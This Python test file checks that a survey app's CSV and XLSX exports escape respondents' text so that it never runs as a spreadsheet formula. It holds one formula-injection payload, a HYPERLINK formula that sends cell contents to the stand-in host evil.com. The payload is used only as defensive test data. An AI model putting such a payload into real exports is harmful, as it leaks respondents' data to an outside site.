"""A respondent's words never become a spreadsheet formula in any CSV or XLSX we write.

The payload is a carer's free text that, opened in Excel, would send the sheet's
contents to another site. It goes through the real writers: the dashboard's figures
downloads, ``haveyoursay report``, and the child's subject access export.
"""

from __future__ import annotations

import csv
import io
import math
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import select

from storage.models import Quote
from tests.storage.report_data import APPROVED_QUOTE, seed_year
from web.exports import write_csv, write_xlsx

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
ARGS = ["report", "--from", "2025-04-01", "--to", "2026-03-31"]
DOWNLOAD = "/dashboard/figures/download.{fmt}?period=year&year=2025"


@pytest.fixture
def seeded(app):  # noqa: ANN001
    """The report year, with an approved quote that is the payload (in a group big enough to print)."""
    with app.extensions["db"].session() as session:
        year = seed_year(session)
        first = session.scalar(select(Quote).where(Quote.redacted_text == APPROVED_QUOTE))
        session.add(Quote(invitation_id=first.invitation_id, form_id=first.form_id, question_key=first.question_key,
                          role=first.role, age=first.age, redacted_text=PAYLOAD, status="approved",
                          sentiment=-0.5))
    return year


def _is_number(text: str) -> bool:
    try:
        return math.isfinite(float(text))
    except ValueError:
        return False


def _could_run(cell: str) -> bool:
    """What a spreadsheet would read as a formula: text (not a plain number) starting = + - @ tab CR LF."""
    stripped = cell.lstrip(" \t\r\n\u00a0\u3000")
    starts = cell[:1] in set("=+-@\t\r\n") or stripped[:1] in set("=+-@\t\r\n")
    return starts and not _is_number(cell)


def _assert_csv_safe(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [cell for row in rows for cell in row]
    assert "'" + PAYLOAD in cells
    assert PAYLOAD not in cells
    assert not [cell for cell in cells if _could_run(cell)]
    return rows


def _assert_xlsx_safe(data: bytes) -> None:
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    [quote] = [c for c in cells if isinstance(c.value, str) and PAYLOAD in c.value]
    assert quote.value == "'" + PAYLOAD and quote.data_type == "s"
    assert not [c.value for c in cells if isinstance(c.value, str) and _could_run(c.value)]
    # Figures we computed are still numbers, not text.
    assert any(c.data_type == "n" and isinstance(c.value, int | float) for c in cells)


def test_dashboard_downloads_write_the_payload_as_text(app, client, staff_login, seeded):  # noqa: ANN001
    staff_login("manager")
    response = client.get(DOWNLOAD.format(fmt="csv"))
    assert response.status_code == 200
    _assert_csv_safe(response.get_data(as_text=True))
    response = client.get(DOWNLOAD.format(fmt="xlsx"))
    assert response.status_code == 200
    _assert_xlsx_safe(response.get_data())


def test_the_report_command_writes_the_payload_as_text(app, seeded, tmp_path):  # noqa: ANN001
    runner = app.test_cli_runner()
    out_csv, out_xlsx = tmp_path / "report.csv", tmp_path / "report.xlsx"
    for fmt, out in (("csv", out_csv), ("xlsx", out_xlsx)):
        result = runner.invoke(args=[*ARGS, "--format", fmt, "-o", str(out)])
        assert result.exit_code == 0, result.output
    _assert_csv_safe(out_csv.read_text(encoding="utf-8"))
    _assert_xlsx_safe(out_xlsx.read_bytes())
    # Standard output too (a CSV piped into a file).
    result = runner.invoke(args=[*ARGS, "--format", "csv"])
    assert result.exit_code == 0
    _assert_csv_safe(result.stdout)


def test_the_childs_subject_access_csv_writes_the_payload_as_text(app, seeded, tmp_path: Path):  # noqa: ANN001
    out = tmp_path / "child.csv"
    result = app.test_cli_runner().invoke(args=["child", "export", "C-R1", "--format", "csv", "-o", str(out)])
    assert result.exit_code == 0, result.output
    rows = _assert_csv_safe(out.read_text(encoding="utf-8"))
    # The sentiment we computed stays a plain number: "-0.5", not "'-0.5".
    assert ["quotes", "sentiment", "-0.5"] in [[r[0], r[2], r[3]] for r in rows[1:]]


def test_a_negative_figure_stays_a_number_in_the_workbook(app, seeded):  # noqa: ANN001
    from openpyxl import load_workbook

    from storage.reports import build_report
    from tests.storage.report_data import PERIOD

    with app.extensions["db"].session() as session:
        report = build_report(session, *PERIOD)
    scale = next(q for q in report["questions"] if q["report"] == "scale" and not q["suppressed"])
    scale["mean"] = -0.5  # as a figure such as a mean sentiment would be
    buffer = io.BytesIO()
    write_xlsx(report, buffer)
    cells = [c for row in load_workbook(io.BytesIO(buffer.getvalue()))["Scores"].iter_rows() for c in row]
    [mean] = [c for c in cells if c.value == -0.5]
    assert mean.data_type == "n"


# Text with the characters that matter most often at its start.
TEXT = st.text(st.characters(codec="utf-8"), max_size=40) | st.builds(
    lambda head, tail: head + tail, st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\n", " =", "\u00a0@", "'"]),
    st.text(max_size=20))


def test_no_written_cell_can_start_a_formula_whatever_the_quote_says(db):  # noqa: ANN001
    """Property: any quote text, through the report's CSV and XLSX writers, is never a formula."""
    from openpyxl import load_workbook

    from storage.reports import build_report
    from tests.storage.report_data import PERIOD

    with db.session() as session:
        seed_year(session)
        report = build_report(session, *PERIOD)
    assert report["quotes"]

    @settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
    @given(words=TEXT)
    def check(words: str) -> None:
        quotes = [{**report["quotes"][0], "text": words}]
        doc = {**report, "quotes": quotes}
        text = io.StringIO(newline="")
        write_csv(doc, text)
        for cell in (c for row in csv.reader(io.StringIO(text.getvalue(), newline="")) for c in row):
            assert not _could_run(cell), repr(cell)
        buffer = io.BytesIO()
        write_xlsx(doc, buffer)
        sheet = load_workbook(io.BytesIO(buffer.getvalue()))["Quotes"]
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                if isinstance(cell.value, str):
                    assert not _could_run(cell.value), repr(cell.value)

    check()
